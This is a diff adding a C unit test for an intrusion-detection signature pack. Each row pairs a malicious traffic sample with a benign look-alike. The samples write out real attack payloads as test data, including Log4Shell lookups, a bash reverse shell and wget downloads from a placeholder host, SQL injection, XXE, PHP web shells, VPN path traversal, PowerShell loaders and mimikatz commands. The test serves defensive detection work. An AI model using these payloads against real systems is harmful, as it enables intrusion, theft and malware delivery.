@@ -1,0 +1,311 @@
+/* test_pack.c - every rule of the starting pack: one message it must find, and the nearest honest one it must not. */
+#include "finding.h"
+#include "pack.h"
+
+#include <netinet/in.h>
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+enum { BUFS = 6, TEXT_MAX = 8192 };
+#define TS MMR_TO_SERVER
+#define TC MMR_TO_CLIENT
+#define IE11 "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
+#define HEX52 "0123456789abcdef0123456789abcdef0123456789abcdef0123"
+#define A64 "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2"
+
+struct part {
+    const char *name, *yes, *no; /* |hex| as in rules; no NULL: the same as yes */
+};
+struct row {
+    uint32_t sid;
+    const char *app; /* NULL: a TCP stream, "udp": a datagram */
+    uint8_t dir;
+    uint16_t port;
+    unsigned times; /* 0: once */
+    struct part part[BUFS];
+    const char *uuid; /* of a DCE/RPC call */
+    uint16_t opnum, opnum_no;
+};
+
+static const struct row rows[] = {
+    {9000001, NULL, TS, 8080, 0, {{"", "GET / HTTP/1.1|0d 0a|X-Api: ${jndi:ldap://192.0.2.1/a}|0d 0a|", "GET /jndi:ldap HTTP/1.1|0d 0a|X-Api: ${java:version}|0d 0a|"}}, NULL, 0, 0},
+    {9000002, "http", TS, 80, 0, {{"http.uri", "/?x=${jndi:rmi://192.0.2.1/a}", "/docs/jndi?x=$jndi"}}, NULL, 0, 0},
+    {9000003, NULL, TS, 80, 0, {{"", "GET /?x=${${lower:j}ndi:ldap://192.0.2.1/a} HTTP/1.1|0d 0a|", "GET /?x=${lower:name} HTTP/1.1|0d 0a|"}}, NULL, 0, 0},
+    {9000004, NULL, TS, 80, 0, {{"", "User-Agent: ${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.1/}", "export A=${B::-1}"}}, NULL, 0, 0},
+    {9000005, "http", TS, 80, 0, {{"http.uri", "/?x=${${env:NaN:-j}ndi:ldap://192.0.2.1/a}", "/?template=${name}"}}, NULL, 0, 0},
+    {9000010, "http", TS, 80, 0, {{"http.request_body", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "class.name=x"}}, NULL, 0, 0},
+    {9000019, "http", TS, 80, 0, {{"http.uri", "/a?class.module.classLoader.DefaultAssertionStatus=1", "/class/module"}}, NULL, 0, 0},
+    {9000011, "http", TS, 80, 0, {{"http.header", "spring.cloud.function.routing-expression: T(java.lang.Runtime)|0d 0a|", "X-Spring: cloud|0d 0a|"}}, NULL, 0, 0},
+    {9000012, "http", TS, 80, 0, {{"http.uri", "/${(#a=@java.lang.Runtime@getRuntime())}/", "/${user}/profile"}}, NULL, 0, 0},
+    {9000013, "http", TS, 80, 0, {{"http.content_type", "%{(#nike='multipart/form-data').(#_memberAccess=@ognl.OgnlContext)}", "multipart/form-data"}}, NULL, 0, 0},
+    {9000014, "http", TS, 80, 0, {{"http.uri", "/index.php?-d+allow_url_include=1+-d+auto_prepend_file=php://input", "/index.php?q=allow_url_include"}}, NULL, 0, 0},
+    {9000015, "http", TS, 80, 0, {{"http.uri", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/docs/phpunit/index.html"}}, NULL, 0, 0},
+    {9000016, "http", TS, 80, 0, {{"http.uri", "/index.php?s=/Index/think/app/invokefunction&function=call_user_func_array&vars[0]=x", "/api/invokefunction"}}, NULL, 0, 0},
+    {9000017, "http", TS, 80, 0, {{"http.request_body", "|ac ed 00 05|sr..org.apache.commons.collections.functors.InvokerTransformer", "|ac ed 00 05|sr..java.util.HashMap"}}, NULL, 0, 0},
+    {9000018, "http", TS, 80, 0, {{"http.request_body", "x=T(java.lang.Runtime).getRuntime().exec('id')", "stack: java.lang.RuntimeException at"}}, NULL, 0, 0},
+    {9000020, "http", TS, 80, 0, {{"http.header", "User-Agent: () { :; }; /bin/bash -c id|0d 0a|", "X-Code: function() { return 1 }|0d 0a|"}}, NULL, 0, 0},
+    {9000021, "http", TS, 80, 0, {{"http.uri", "/ping?ip=8.8.8.8;wget http://192.0.2.9/x.sh", "/docs?q=wget http mirror"}}, NULL, 0, 0},
+    {9000022, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.request_body", "host=1.1.1.1;cd /tmp; wget 192.0.2.9/x", "text=how to use wget and curl in /tmp"}}, NULL, 0, 0},
+    {9000023, "http", TS, 80, 0, {{"http.uri", "/a.cgi?ip=1.1.1.1;cat /etc/passwd", "/search?q=cat pictures;id=5"}}, NULL, 0, 0},
+    {9000024, "http", TS, 80, 0, {{"http.request_body", "cmd=bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", "text=the bash shell"}}, NULL, 0, 0},
+    {9000030, "http", TS, 80, 0, {{"http.uri", "/a?f=../../../../etc/passwd", "/etc/site.css?v=1..2"}}, NULL, 0, 0},
+    {9000031, "http", TS, 80, 0, {{"http.uri.raw", "/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh", "/a/../b/../c.css"}}, NULL, 0, 0},
+    {9000032, "http", TS, 80, 0, {{"http.uri", "/?page=php://filter/convert.base64-encode/resource=index", "/?page=phpinfo"}}, NULL, 0, 0},
+    {9000033, "http", TS, 80, 0, {{"http.uri", "/.git/config", "/git/config.html"}}, NULL, 0, 0},
+    {9000040, "http", TS, 80, 0, {{"http.uri", "/i.php?id=1 UNION SELECT 1,2,3--", "/european-union/select-committee"}}, NULL, 0, 0},
+    {9000041, "http", TS, 80, 0, {{"http.uri", "/i.php?id=1' AND SLEEP(5)--", "/sleep/5"}}, NULL, 0, 0},
+    {9000042, "http", TS, 80, 0, {{"http.uri", "/i.php?id=1' OR '1'='1", "/i.php?name=O'Brien or others"}}, NULL, 0, 0},
+    {9000043, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.request_body", "user=admin%27+or+1%3d1--&p=x", "text=it's union day; select a seat"}}, NULL, 0, 0},
+    {9000044, "http", TS, 80, 0, {{"http.uri", "/?q=<script>alert(1)</script>", "/?q=script tag alert"}}, NULL, 0, 0},
+    {9000045, "http", TS, 80, 0, {{"http.request_body", "<!DOCTYPE a [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "<!DOCTYPE a [<!ENTITY name \"text\">]>"}}, NULL, 0, 0},
+    {9000050, "http", TS, 80, 0, {{"http.uri", "/uploads/a.php?cmd=whoami", "/page.php?c=news"}}, NULL, 0, 0},
+    {9000051, "http", TS, 80, 0, {{"http.request_body", "<?php @eval($_POST['x']); ?>", "<?php echo htmlspecialchars($_GET['q']); ?>"}}, NULL, 0, 0},
+    {9000052, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.request_body", "z=@eval(base64_decode($_POST[z0]));", "z=evaluation form"}}, NULL, 0, 0},
+    {9000053, "http", TC, 80, 0, {{"http.response_body", "uid=33(www-data) gid=33(www-data) groups=33(www-data)", "uid=33&gid=12"}}, NULL, 0, 0},
+    {9000060, "http", TS, 80, 0, {{"http.user_agent", "sqlmap/1.5 (http://sqlmap.org)", "Mozilla/5.0 (X11; Linux)"}}, NULL, 0, 0},
+    {9000101, "http", TS, 80, 0, {{"http.uri", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm -rf /tmp/*;wget", "/setup.cgi?next_file=status.htm"}}, NULL, 0, 0},
+    {9000102, "http", TS, 80, 0, {{"http.request_body", "<NewInternalClient>`cd /tmp;wget http://192.0.2.9/m`</NewInternalClient>", "<NewInternalClient>192.168.0.5</NewInternalClient>"}}, NULL, 0, 0},
+    {9000103, "http", TS, 80, 0, {{"http.uri", "/GponForm/diag_Form?images/", "/images/a.png"}}, NULL, 0, 0},
+    {9000104, "http", TS, 443, 0, {{"http.uri", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/remote/fgt_lang?lang=en"}}, NULL, 0, 0},
+    {9000105, "http", TS, 443, 0, {{"http.uri.raw", "/dana-na/../dana/html5acc/guacamole/../../etc/passwd?/dana/", "/dana-na/auth/welcome.cgi"}}, NULL, 0, 0},
+    {9000106, "http", TS, 443, 0, {{"http.uri.raw", "/vpn/../vpns/cfg/smb.conf", "/vpn/index.html"}}, NULL, 0, 0},
+    {9000107, "http", TS, 80, 0, {{"http.uri", "/cgi-bin/nas_sharing.cgi?user=mbu&cmd=15&system=aWQ=", "/cgi-bin/nas_sharing.cgi?share=public"}}, NULL, 0, 0},
+    {9000108, "http", TS, 80, 0, {{"http.uri", "/System/configurationFile?auth=YWRtaW46MTEK", "/System/status"}}, NULL, 0, 0},
+    {9000109, NULL, TS, 9100, 0, {{"", "|1b|%-12345X@PJL FSDIRLIST NAME=|22|0:|5c 22| ENTRY=1|0d 0a|", "|1b|%-12345X@PJL SET COPIES=1|0d 0a|"}}, NULL, 0, 0},
+    {9000110, "http", TS, 443, 0, {{"http.uri", "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/", "/autodiscover/autodiscover.json?Protocol=EWS"}}, NULL, 0, 0},
+    {9000111, NULL, TS, 443, 0, {{"", "|18 03 02 00 03 01 40 00|", "|18 03 02 00 13 01 00 10|0123456789abcdef"}}, NULL, 0, 0},
+    {9000112, NULL, TS, 445, 0, {{"", "|00 00 10 4e ff|SMB|33 00 00 00 00 18 07 c0 00 00|" A64 A64 A64 A64 A64 A64 A64, "|00 00 10 4e ff|SMB|33 00 00 00 00 18 07 c0 00 00|short"}}, NULL, 0, 0},
+    {9000113, NULL, TS, 445, 0, {{"", "|00 00 00 4a ff|SMB|25 00 00 00 00 18 01 28|............|23 00 00 00 07 00 5c|PIPE|5c 00|", "|00 00 00 4a ff|SMB|25 00 00 00 00 18 01 28|............|26 00 01 40 07 00 5c|PIPE|5c 00|"}}, NULL, 0, 0},
+    {9000114, NULL, TS, 445, 0, {{"", "|00 00 00 40 fc|SMB|32 00 00 00 01 00 00 00 ff ff ff ff|AAAA", "|00 00 00 40 fc|SMB|32 00 00 00 01 00 00 00 10 00 00 00|AAAA"}}, NULL, 0, 0},
+    {9000115, NULL, TS, 3389, 0, {{"", "|03 00 01 ca 02 f0 80|rdpdr|00 00 00|MS_T120|00 80 80|", "|03 00 01 ca 02 f0 80|rdpdr|00 00 00|rdpsnd|00 80 80|"}}, NULL, 0, 0},
+    {9000116, NULL, TS, 6379, 0, {{"", "config set dir /root/.ssh/|0d 0a|", "config set dir /var/lib/redis|0d 0a|"}}, NULL, 0, 0},
+    {9000117, "ssh", TS, 22, 0, {{"ssh.software", "zgrab", "OpenSSH_9.2p1"}}, NULL, 0, 0},
+    {9000201, "http", TS, 80, 0, {{"http.uri", "/news.php", NULL}, {"http.cookie", "session=bWFtb3JpIHRlc3QgdmFsdWU=", NULL}, {"http.user_agent", IE11, NULL}, {"http.header_names", "|0d 0a|Cookie|0d 0a|User-Agent|0d 0a|Host|0d 0a 0d 0a|", "|0d 0a|Cookie|0d 0a|User-Agent|0d 0a|Referer|0d 0a|Host|0d 0a 0d 0a|"}}, NULL, 0, 0},
+    {9000202, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.uri", "/login/process.php", "/login/index.php"}, {"http.user_agent", IE11, NULL}, {"http.header_names", "|0d 0a|User-Agent|0d 0a|Host|0d 0a 0d 0a|", NULL}}, NULL, 0, 0},
+    {9000203, "http", TS, 80, 0, {{"http.uri", "/en-us/test.html", "/en-us/about.html"}, {"http.request_body", "i=a19ea23062db990386a3a478cb89d52e&data=eyJHVUlE&session=75db-99b1", NULL}}, NULL, 0, 0},
+    {9000204, "http", TS, 80, 0, {{"http.method", "GET", NULL}, {"http.uri", "/aB3x", "/ab/x"}, {"http.host", "192.0.2.7:8080", NULL}, {"http.user_agent", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)", NULL}, {"http.header_names", "|0d 0a|User-Agent|0d 0a|Host|0d 0a 0d 0a|", NULL}}, NULL, 0, 0},
+    {9000205, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.uri", "/submit.php?id=1834092178", "/submit.php?id=form7"}, {"http.content_type", "application/octet-stream", NULL}}, NULL, 0, 0},
+    {9000206, "http", TS, 80, 0, {{"http.method", "GET", NULL}, {"http.uri", "/dpixel", NULL}, {"http.cookie", A64 A64 "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWY=", "sid=1; lang=ja"}}, NULL, 0, 0},
+    {9000207, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.request_body", "|00 00 00 f0 de ad be ef 12 34|", "|00 00 00 f0 de ad 00 ef 12 34|"}}, NULL, 0, 0},
+    {9000208, "http", TS, 80, 0, {{"http.method", "POST", NULL}, {"http.uri", "/oauth/samples.php?q=1a2b3c4d", NULL}, {"http.cookie", "PHPSESSID=0123456789abcdef0123456789abcdef", "PHPSESSID=0123456789abcdef0123456789abcdef; lang=ja"}, {"http.header_names", "|0d 0a|Host|0d 0a 0d 0a|", NULL}}, NULL, 0, 0},
+    {9000209, "http", TS, 80, 0, {{"http.uri", "/data", "/data/upload"}, {"http.request_body", A64 A64 A64, NULL}, {"http.header_names", "|0d 0a|Host|0d 0a 0d 0a|", NULL}}, NULL, 0, 0},
+    {9000210, "http", TS, 8082, 0, {{"http.method", "POST", NULL}, {"http.host", "192.0.2.7:8082", NULL}, {"http.content_type", "multipart/form-data; boundary=x", NULL}, {"http.uri", "/mor1/PC-01_W10.0123456789ABCDEF0123456789ABCDEF/81/", "/upload/file/81/"}}, NULL, 0, 0},
+    {9000211, "http", TS, 8082, 0, {{"http.method", "POST", NULL}, {"http.host", "192.0.2.7", NULL}, {"http.request_body", "Content-Disposition: form-data; name=\"proclist\"|0d 0a 0d 0a|***PROCESS LIST***", "Content-Disposition: form-data; name=\"photo\""}}, NULL, 0, 0},
+    {9000212, "http", TS, 8080, 0, {{"http.method", "POST", NULL}, {"http.host", "192.0.2.7:8080", NULL}, {"http.uri", "/pQbR3/a8Xz1/", "/upload.php"}, {"http.content_type", "multipart/form-data; boundary=x", NULL}, {"http.referer", "192.0.2.7/pQbR3/", NULL}}, NULL, 0, 0},
+    {9000220, NULL, TS, 4444, 0, {{"", "bash: no job control in this shell|0a|", "bash: command not found|0a|"}}, NULL, 0, 0},
+    {9000221, NULL, TS, 4444, 0, {{"", "Microsoft Windows [Version 10.0.19041.1]|0d 0a|(c) Microsoft Corporation. All rights reserved.|0d 0a 0d 0a|C:|5c|Users|5c|a>", "Microsoft Windows [Version 10.0.19041.1] is required"}}, NULL, 0, 0},
+    {9000222, NULL, TS, 4444, 0, {{"", "uid=0(root) gid=0(root) groups=0(root)|0a|", "uid=1000(a) gid=1000(a)|0a|"}}, NULL, 0, 0},
+    {9000223, NULL, TS, 4444, 0, {{"", "PS C:|5c|Users|5c|a> ", "PS C: is a drive"}}, NULL, 0, 0},
+    {9000224, NULL, TC, 4444, 0, {{"", "MZ|90 00|This program cannot be run in DOS mode....metsrv.dll.ReflectiveLoader", "MZ|90 00|This program cannot be run in DOS mode....setup.exe"}}, NULL, 0, 0},
+    {9000230, "http", TS, 8888, 0, {{"http.user_agent", "Java/1.8.0_181", NULL}, {"http.uri", "/Exploit.class", "/maven/index.xml"}}, NULL, 0, 0},
+    {9000231, "http", TC, 80, 0, {{"file.data", "MZ|90 00 03 00 00 00|................This program cannot be run in DOS mode.", "|89|PNG|0d 0a|................"}, {"http.content_type", "image/png", NULL}}, NULL, 0, 0},
+    {9000232, "http", TS, 80, 0, {{"http.uri", "/a/payload.exe", "/a/readme.txt"}, {"http.host", "192.0.2.7:8000", NULL}, {"http.user_agent", "Mozilla/5.0 (Windows NT; Windows NT 10.0) WindowsPowerShell/5.1", NULL}}, NULL, 0, 0},
+    {9000233, "http", TS, 80, 0, {{"http.user_agent", "CertUtil URL Agent", NULL}, {"http.uri", "/tool.txt", "/root.crl"}}, NULL, 0, 0},
+    {9000234, "http", TC, 80, 0, {{"file.data", "powershell -nop -w hidden -enc " A64, "powershell -File setup.ps1"}}, NULL, 0, 0},
+    {9000235, "http", TC, 80, 0, {{"file.data", "$a=[Convert]::FromBase64String('AA==');IEX $a", "$a=[Convert]::FromBase64String('AA==')"}, {"http.content_type", "text/plain", NULL}}, NULL, 0, 0},
+    {9000236, "http", TS, 80, 0, {{"http.user_agent", "Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.1", NULL}, {"http.host", "192.0.2.7", "www.example.com"}}, NULL, 0, 0},
+    {9000237, "http", TC, 80, 0, {{"file.data", "#!/bin/sh|0a|cd /tmp; wget http://192.0.2.9/x.mips; curl -O http://192.0.2.9/x.arm7; chmod 777 x*", "#!/bin/sh|0a|wget http://example.com/a.tar.gz|0a|tar xf a.tar.gz|0a|chmod +x run"}}, NULL, 0, 0},
+    {9000240, NULL, TS, 3333, 0, {{"", "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"x/1\"]}|0a|", "{\"id\":1,\"method\":\"eth_blockNumber\"}|0a|"}}, NULL, 0, 0},
+    {9000241, NULL, TS, 3333, 0, {{"", "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"4A\",\"pass\":\"x\",\"agent\":\"XMRig/6\",\"algo\":[\"rx/0\"]}}|0a|", "{\"method\":\"login\",\"user\":\"a\",\"agent\":\"b\"}|0a|"}}, NULL, 0, 0},
+    {9000250, "dns", TS, 53, 5, {{"dns.query", HEX52 "." HEX52 ".t.example", "www.example.com"}}, NULL, 0, 0},
+    {9000251, "udp", TC, 53, 10, {{"", "|12 34 81 80 00 01 00 01 00 00 00 00 01|a|00 00 10 00 01 c0 0c 00 10 00 01 00 00 00 3c 00 c1 c0|" A64 A64 A64, "|12 34 81 80 00 01 00 01 00 00 00 00 01|a|00 00 10 00 01 c0 0c 00 10 00 01 00 00 00 3c 00 10 0f|v=spf1 -all    "}}, NULL, 0, 0},
+    {9000301, NULL, TS, 445, 0, {{"", "P|00|S|00|E|00|X|00|E|00|S|00|V|00|C|00|.|00|e|00|x|00|e|00|", "P|00|S|00|E|00|X|00|A|00|M|00|P|00|L|00|E|00|"}}, NULL, 0, 0},
+    {9000302, "smb", TS, 445, 0, {{"smb.named_pipe", "RemCom_communicaton", "srvsvc"}}, NULL, 0, 0},
+    {9000303, NULL, TS, 445, 0, {{"", "%|00|C|00|O|00|M|00|S|00|P|00|E|00|C|00|%|00| |00|/|00|Q|00| |00|/|00|c|00|", "%|00|P|00|A|00|T|00|H|00|%|00|"}}, NULL, 0, 0},
+    {9000304, NULL, TS, 445, 0, {{"", "> |5c 00 5c 00|1|00|2|00|7|00|.|00|0|00|.|00|0|00|.|00|1|00 5c 00|A|00|D|00|M|00|I|00|N|00|$|00|", "|5c 00|1|00|2|00|7|00|.|00|0|00|.|00|0|00|.|00|1|00 5c 00|d|00|o|00|c|00|s|00|"}}, NULL, 0, 0},
+    {9000305, NULL, TC, 4444, 0, {{"", "mimikatz # sekurlsa::logonpasswords", "about lsa logons"}}, NULL, 0, 0},
+    {9000306, NULL, TS, 445, 0, {{"", "m|00|i|00|m|00|i|00|k|00|a|00|t|00|z|00|.|00|e|00|x|00|e|00|", "m|00|i|00|m|00|i|00|c|00|.|00|t|00|x|00|t|00|"}}, NULL, 0, 0},
+    {9000307, "dcerpc", TS, 445, 0, {{"dcerpc.stub_data", "x", NULL}}, "e3514235-4b06-11d1-ab04-00c04fc2dcd2", 3, 4},
+    {9000308, "dcerpc", TS, 49670, 0, {{"dcerpc.stub_data", "D|00|C|00 00 00 00 00 00 00 00 00 00 00 ff ff 2f 21|", "D|00|C|00 12 34 56 78 9a bc de f0 ff ff 2f 21|"}}, "12345678-1234-abcd-ef00-01234567cffb", 26, 26},
+    {9000309, "dcerpc", TS, 445, 0, {{"dcerpc.stub_data", "|5c 00 5c 00|h|00 5c 00|s|00 5c 00|x|00|.|00|d|00|l|00|l|00|", "|5c 00 5c 00|h|00 5c 00|p|00|r|00|n|00|"}}, "12345678-1234-abcd-ef00-0123456789ab", 89, 89},
+    {9000310, NULL, TS, 445, 0, {{"", "|00 00 01 00 fe|SMB|40 00|....All of your files have been encrypted. Buy bitcoin and write to us.", "|00 00 01 00 fe|SMB|40 00|....Your files are on the server."}}, NULL, 0, 0},
+    {9000900, "http", TC, 80, 0, {{"file.data", "X5O!P%@AP[4|5c|PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", "EICAR-STANDARD-ANTIVIRUS-TEST"}}, NULL, 0, 0},
+};
+
+struct world {
+    struct mmr_rules *set;
+    struct mmr_rules_engine *engine;
+    uint32_t want;
+    unsigned hits, errors;
+};
+
+static size_t decode(const char *text, uint8_t *out)
+{
+    size_t n = 0;
+    for (bool is_hex = false; *text && n < TEXT_MAX; text++) {
+        if (*text == '|') {
+            is_hex = !is_hex;
+        } else if (!is_hex) {
+            out[n++] = (uint8_t)*text;
+        } else if (*text != ' ') {
+            char pair[3] = {text[0], text[1], 0};
+            out[n++] = (uint8_t)strtoul(pair, NULL, 16);
+            text++;
+        }
+    }
+    return n;
+}
+
+static void on_hit(void *ctx, const struct mmr_rule_hit *hit)
+{
+    struct world *w = ctx;
+    w->hits += hit->rule->sid == w->want;
+}
+
+static void on_diag(void *ctx, const struct mmr_rule_diag *d)
+{
+    struct world *w = ctx;
+    if (!d->is_ok) {
+        w->errors++;
+        print_error("%s:%u sid %u: %s\n", d->file, d->line, d->sid, d->reason);
+    }
+}
+
+static int setup(void **state)
+{
+    struct mmr_error err = {.struct_size = sizeof err};
+    struct world *w = calloc(1, sizeof *w);
+    struct mmr_rules_options opt = {.hit = on_hit, .ctx = w};
+    assert_non_null(w);
+    assert_int_equal(mmr_rules_new(NULL, &w->set, &err), 0);
+    for (size_t i = 0; signature_pack[i].name; i++)
+        assert_int_equal(mmr_rules_add_text(w->set, signature_pack[i].name, (const char *)signature_pack[i].data,
+                                            signature_pack[i].len, on_diag, w, &err), 0);
+    assert_int_equal(mmr_rules_compile(w->set, &err), 0);
+    assert_int_equal(mmr_rules_engine_new(w->set, &opt, &w->engine, &err), 0);
+    *state = w;
+    return 0;
+}
+
+static int teardown(void **state)
+{
+    struct world *w = *state;
+    mmr_rules_engine_free(w->engine);
+    mmr_rules_free(w->set);
+    free(w);
+    return 0;
+}
+
+static void set_uuid(const char *text, uint8_t out[16])
+{
+    static const uint8_t place[16] = {3, 2, 1, 0, 5, 4, 7, 6, 8, 9, 10, 11, 12, 13, 14, 15};
+    unsigned n = 0;
+    for (; *text && n < 32; text++)
+        if (*text != '-') {
+            char one[2] = {*text, 0};
+            uint8_t d = (uint8_t)strtoul(one, NULL, 16);
+            out[place[n / 2]] = (uint8_t)(n % 2 ? out[place[n / 2]] | d : d << 4);
+            n++;
+        }
+}
+
+/* Play one row as traffic of a flow of its own; how often its rule alerted. */
+static unsigned play(struct world *w, const struct row *r, bool is_yes, uint64_t id)
+{
+    static uint8_t bytes[BUFS][TEXT_MAX];
+    struct mmr_flow flow = {.struct_size = sizeof flow, .ip_version = 4, .proto = IPPROTO_TCP, .id = id,
+                            .tcp_state = MMR_TCP_ESTABLISHED, .client_port = 50000, .server_port = r->port,
+                            .packets = {2, 2}, .app = r->app && strcmp(r->app, "udp") != 0 ? r->app : NULL};
+    struct mmr_frame frame = {.struct_size = sizeof frame, .time_ns = (int64_t)id * 1000000000000, .index = id};
+    struct mmr_packet p = {.struct_size = sizeof p, .frame = &frame, .flow = &flow, .dir = r->dir, .ip_version = 4,
+                           .proto = IPPROTO_TCP};
+    struct mmr_buffer bufs[BUFS];
+    struct mmr_dcerpc_call call = {.struct_size = sizeof call, .is_request = 1, .opnum = is_yes ? r->opnum : r->opnum_no,
+                                   .first_frag = 1, .last_frag = 1, .little_endian = 1};
+    size_t n = 0;
+    flow.client = (struct mmr_addr){{[10] = 0xff, 0xff, 192, 0, 2, (uint8_t)(1 + id % 200)}};
+    flow.server = (struct mmr_addr){{[10] = 0xff, 0xff, 198, 51, 100, 5}};
+    p.src = r->dir == TS ? flow.client : flow.server;
+    p.dst = r->dir == TS ? flow.server : flow.client;
+    p.src_port = r->dir == TS ? flow.client_port : flow.server_port;
+    p.dst_port = r->dir == TS ? flow.server_port : flow.client_port;
+    for (; n < BUFS && r->part[n].name; n++) {
+        const char *text = is_yes || !r->part[n].no ? r->part[n].yes : r->part[n].no;
+        bufs[n] = (struct mmr_buffer){r->part[n].name, bytes[n], decode(text, bytes[n])};
+    }
+    w->want = r->sid;
+    w->hits = 0;
+    for (unsigned i = 0; i < (r->times ? r->times : 1); i++) {
+        frame.index++;
+        if (!r->app) {
+            struct mmr_chunk c = {.struct_size = sizeof c, .flow = &flow, .packet = &p, .data = bytes[0],
+                                  .len = (uint32_t)bufs[0].len, .dir = r->dir};
+            p.payload = bytes[0];
+            p.payload_len = c.len;
+            mmr_rules_packet(w->engine, &p);
+            mmr_rules_chunk(w->engine, &c);
+        } else if (strcmp(r->app, "udp") == 0) {
+            flow.proto = p.proto = IPPROTO_UDP;
+            flow.tcp_state = MMR_TCP_NONE;
+            p.payload = bytes[0];
+            p.payload_len = (uint32_t)bufs[0].len;
+            mmr_rules_packet(w->engine, &p);
+        } else {
+            struct mmr_tx tx = {.struct_size = sizeof tx, .dir = r->dir, .flow = &flow, .packet = &p, .app = r->app,
+                                .id = i, .buffers = bufs, .n = n};
+            if (r->uuid) {
+                set_uuid(r->uuid, call.iface);
+                tx.detail = &call;
+                flow.app = "smb";
+            }
+            mmr_rules_tx(w->engine, &tx);
+        }
+    }
+    mmr_rules_flow_end(w->engine, &flow);
+    return w->hits;
+}
+
+static void every_rule_finds_its_own_and_spares_the_honest(void **state)
+{
+    struct world *w = *state;
+    unsigned wrong = 0;
+    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
+        unsigned yes = play(w, &rows[i], true, 2 * i + 1);
+        unsigned no = play(w, &rows[i], false, 2 * i + 2);
+        if (yes != 1 || no != 0) {
+            print_error("sid %u: alerted %u times on the bad one (want 1), %u on the honest one (want 0)\n", rows[i].sid, yes, no);
+            wrong++;
+        }
+    }
+    assert_int_equal(wrong, 0);
+}
+
+static void every_rule_loads_and_has_a_row_and_meaning(void **state)
+{
+    struct world *w = *state;
+    assert_int_equal(w->errors, 0);
+    assert_true(mmr_rules_count(w->set) > 60);
+    for (size_t i = 0; i < mmr_rules_count(w->set); i++) {
+        const struct mmr_rule_info *info = mmr_rules_info(w->set, i);
+        struct finding_facts f;
+        char text[32];
+        bool has_row = false;
+        for (size_t k = 0; k < sizeof rows / sizeof rows[0]; k++)
+            has_row |= rows[k].sid == info->sid;
+        if (!has_row)
+            fail_msg("sid %u has no row here", info->sid);
+        finding_facts_of(info, NULL, &f);
+        if (!mmr_rule_metadata(info, "mamori_potential", 0, text, sizeof text) || strcmp(text, f.potential) != 0)
+            fail_msg("sid %u: potential is not one of ours", info->sid);
+        if (!f.n_attack)
+            fail_msg("sid %u names no ATT&CK technique", info->sid);
+        if (!f.phase && strcmp(f.potential, "info") != 0)
+            fail_msg("sid %u: a threat without a phase", info->sid);
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test_setup_teardown(every_rule_loads_and_has_a_row_and_meaning, setup, teardown),
+        cmocka_unit_test_setup_teardown(every_rule_finds_its_own_and_spares_the_honest, setup, teardown),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
